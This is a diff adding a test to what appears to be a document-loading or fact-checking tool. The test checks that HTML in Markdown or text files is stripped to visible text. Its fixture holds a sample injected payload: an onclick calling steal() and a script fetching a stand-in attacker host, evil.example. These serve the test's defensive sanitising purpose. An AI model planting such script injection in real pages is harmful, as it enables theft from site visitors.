@@ -205,3 +205,13 @@ def test_one_broken_source_leaves_the_index_as_it_was(tmp_path):
         checker.index()
     assert sorted((p.chunk_id, p.text) for p in checker.store.all_passages()) == before
     assert "122 days" in before[0][1]
+
+
+def test_a_page_saved_as_markdown_or_text_is_read_for_its_visible_text(tmp_path):
+    page = '<p onclick="steal()">Colossus runs in Memphis.</p><script>fetch("https://evil.example")</script>'
+    (tmp_path / "a.md").write_text(FRONT.format(published="2024-10-28") + page, encoding="utf-8")
+    (tmp_path / "b.txt").write_text(page, encoding="utf-8")
+    (tmp_path / "c.md").write_text(FRONT.format(published="2024-10-28") + "Colossus has 10<sup>5</sup> GPUs.")
+    sources = {s.source_id: s for s in load_corpus(tmp_path)}
+    assert sources["a"].text == sources["b"].text == "Colossus runs in Memphis."
+    assert sources["c"].text == "Colossus has 10<sup>5</sup> GPUs.", "inert inline markup in Markdown is left alone"
